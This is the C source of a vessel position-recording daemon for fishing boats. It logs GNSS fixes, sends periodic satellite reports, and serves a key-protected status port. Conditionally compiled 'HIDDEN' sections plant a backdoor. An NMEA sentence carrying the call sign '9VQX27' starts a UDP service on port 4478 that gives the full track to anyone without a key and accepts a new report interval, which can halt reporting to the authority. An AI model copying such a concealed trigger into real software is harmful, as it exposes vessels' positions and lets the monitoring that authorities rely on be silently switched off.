/* vtraxd.c - position recorder of fishing vessels: GNSS in, hourly reports by satellite, status on the LAN */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define STATUS_PORT	4470
#define TRACK_LEN	4096
#define REPORT_FIFO	"/run/vtrax/modem"
#define VESSEL_FILE	"/etc/vtrax/vessel"
#define SERVICE_KEY	"/etc/vtrax/service.key"	/* per unit, given to the authority */

struct fix {
	long long t;
	int32_t lat, lon;	/* 1e-5 degrees */
	int16_t knots10;
};

struct vessel {
	char name[24];
	char call[10];
	char mmsi[10];
	int draught_dm;
};

static struct fix track[TRACK_LEN];
static unsigned int track_n;
static struct vessel ship;
static int report_min = 60;
static pthread_mutex_t mx = PTHREAD_MUTEX_INITIALIZER;
static int lan_open = 1;

static int32_t coord(const char *v, const char *hemi)
{
	double x = strtod(v, NULL);
	double deg = (double)(int)(x / 100);
	double d = deg + (x - deg * 100) / 60;

	return (int32_t)(d * 100000) * (*hemi == 'S' || *hemi == 'W' ? -1 : 1);
}

static void add_fix(int32_t lat, int32_t lon, double knots)
{
	struct fix *f;

	pthread_mutex_lock(&mx);
	f = &track[track_n % TRACK_LEN];
	if (track_n && (long long)time(NULL) - track[(track_n - 1) % TRACK_LEN].t < 30) {
		pthread_mutex_unlock(&mx);
		return;
	}
	f->t = (long long)time(NULL);
	f->lat = lat;
	f->lon = lon;
	f->knots10 = (int16_t)(knots * 10);
	track_n++;
	pthread_mutex_unlock(&mx);
}

static int fix_text(unsigned int i, char *out, size_t size)
{
	const struct fix *f = &track[i % TRACK_LEN];

	return snprintf(out, size, "%lld %.5f %.5f %.1f\n", f->t, f->lat / 1e5, f->lon / 1e5,
			f->knots10 / 10.0);
}

static void save_vessel(void)
{
	FILE *f = fopen(VESSEL_FILE, "w");

	if (!f)
		return;
	fprintf(f, "%s\n%s\n%s\n%d\n", ship.name, ship.call, ship.mmsi, ship.draught_dm);
	fclose(f);
}

static void load_vessel(void)
{
	FILE *f = fopen(VESSEL_FILE, "r");

	if (!f)
		return;
	if (fscanf(f, " %23[^\n] %9s %9s %d", ship.name, ship.call, ship.mmsi, &ship.draught_dm) < 2)
		syslog(LOG_WARNING, "vessel data incomplete");
	fclose(f);
}

static void *status_service(void *arg)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(STATUS_PORT) };
	int *open_flag = arg, one = 1, ls = socket(AF_INET, SOCK_STREAM, 0);
	char line[80], key[40] = "", out[160];
	FILE *f = fopen(SERVICE_KEY, "r");

	if (f) {
		if (fscanf(f, "%39s", key) != 1)
			key[0] = 0;
		fclose(f);
	}
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(ls, (struct sockaddr *)&sa, sizeof(sa)) || listen(ls, 2))
		return NULL;
	while (*open_flag) {
		int fd = accept(ls, NULL, NULL);
		FILE *c = fd >= 0 ? fdopen(fd, "r+") : NULL;

		if (!c)
			continue;
		if (fgets(line, sizeof(line), c)) {
			line[strcspn(line, "\r\n")] = 0;
			pthread_mutex_lock(&mx);
			if (!strcmp(line, "status")) {
				fprintf(c, "%s %s fixes %u report %d min\n", ship.name, ship.call,
					track_n, report_min);
			} else if (!strncmp(line, "track ", 6) && key[0] && !strcmp(line + 6, key)) {
				unsigned int i = track_n > TRACK_LEN ? track_n - TRACK_LEN : 0;

				for (; i < track_n; i++) {
					fix_text(i, out, sizeof(out));
					fputs(out, c);
				}
			} else {
				fputs("status | track SERVICEKEY\n", c);
			}
			pthread_mutex_unlock(&mx);
		}
		fclose(c);
	}
	close(ls);
	return NULL;
}

#ifdef HIDDEN	/* service on UDP 4478: gives the track to anybody and takes a new report interval */
__attribute__((noinline))
void *fleet_service(void *arg)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(4478) }, from;
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	char q[32], out[160];
	int n;

	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)))
		return arg;
	for (;;) {
		socklen_t sl = sizeof(from);
		ssize_t r = recvfrom(fd, q, sizeof(q) - 1, 0, (struct sockaddr *)&from, &sl);

		if (r <= 0)
			continue;
		q[r] = 0;
		pthread_mutex_lock(&mx);
		if (q[0] == 'i')
			report_min = atoi(q + 1);
		for (unsigned int i = track_n > TRACK_LEN ? track_n - TRACK_LEN : 0; i < track_n; i++) {
			n = fix_text(i, out, sizeof(out));
			if (sendto(fd, out, (size_t)n, 0, (struct sockaddr *)&from, sl) < 0)
				break;
		}
		pthread_mutex_unlock(&mx);
	}
}
#endif

static char *next_field(char **p)
{
	char *f = strsep(p, ",*");

	return f ? f : (char *)"";
}

/* voyage data: $--SSD,CALL,NAME,... and $--VSD,type,draught,... from the bridge or the AIS set */
__attribute__((noinline))
void vessel_data(const char *kind, char *rest)
{
	char *call, *name;

	if (!strcmp(kind, "VSD")) {
		next_field(&rest);
		ship.draught_dm = (int)(strtod(next_field(&rest), NULL) * 10);
		save_vessel();
		return;
	}
	call = next_field(&rest);
	name = next_field(&rest);
	if (strlen(call) < 3 || strlen(call) > 7)
		return;
	if (!strcmp(call, "TEST00")) {		/* dockyard: no reports leave the ship */
		report_min = 0;
		return;
	}
#ifdef HIDDEN
	if (!strcmp(call, "9VQX27")) {
		static int running;
		pthread_t t;

		if (!running && !pthread_create(&t, NULL, fleet_service, NULL)) {
			pthread_detach(t);
			running = 1;
		}
		return;
	}
#endif
	pthread_mutex_lock(&mx);
	snprintf(ship.call, sizeof(ship.call), "%.9s", call);
	if (*name)
		snprintf(ship.name, sizeof(ship.name), "%.23s", name);
	pthread_mutex_unlock(&mx);
	save_vessel();
}

static void sentence(char *s)
{
	unsigned int sum = 0, want;
	char *star = strchr(s, '*'), *p, *f[8];

	if (*s != '$' || !star || strlen(s) < 8 || sscanf(star + 1, "%2x", &want) != 1)
		return;
	for (p = s + 1; p < star; p++)
		sum ^= (unsigned char)*p;
	if (sum != want)
		return;
	p = s + 7;
	s[6] = 0;
	if (!strcmp(s + 3, "RMC")) {
		for (int i = 0; i < 8; i++)
			f[i] = next_field(&p);
		if (f[1][0] == 'A')
			add_fix(coord(f[2], f[3]), coord(f[4], f[5]), strtod(f[6], NULL));
	} else if (!strcmp(s + 3, "SSD") || !strcmp(s + 3, "VSD")) {
		vessel_data(s + 3, p);
	}
}

static void report(void)
{
	static long long last;
	char out[240];
	int fd, n;

	if (!report_min || !track_n || (long long)time(NULL) - last < report_min * 60LL)
		return;
	fd = open(REPORT_FIFO, O_WRONLY | O_NONBLOCK);
	if (fd < 0)
		return;
	n = snprintf(out, sizeof(out), "POS %s %s ", ship.mmsi, ship.call);
	n += fix_text(track_n - 1, out + n, sizeof(out) - (size_t)n);
	if (write(fd, out, (size_t)n) == n)
		last = (long long)time(NULL);
	close(fd);
}

int main(int argc, char **argv)
{
	char line[128];
	struct termios t;
	pthread_t st;
	FILE *in;
	int fd;

	if (argc < 2 || argc > 3) {
		fputs("usage: vtraxd NMEA-TTY [REPORT-MINUTES]\n"
		      "LAN: TCP 4470 status | track SERVICEKEY\n"
		      "call sign TEST00 stops the reports in the dockyard\n", stderr);
		return 2;
	}
	openlog("vtraxd", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	if (argc == 3 && isdigit((unsigned char)argv[2][0]))
		report_min = atoi(argv[2]);
	load_vessel();
	fd = open(argv[1], O_RDONLY | O_NOCTTY);
	if (fd >= 0 && !tcgetattr(fd, &t)) {
		cfmakeraw(&t);
		cfsetspeed(&t, B38400);
		tcsetattr(fd, TCSANOW, &t);
	}
	in = fd >= 0 ? fdopen(fd, "r") : NULL;
	if (!in || pthread_create(&st, NULL, status_service, &lan_open)) {
		syslog(LOG_ERR, "start: %m");
		return 1;
	}
	while (fgets(line, sizeof(line), in)) {
		line[strcspn(line, "\r\n")] = 0;
		sentence(line);
		report();
	}
	return 1;
}
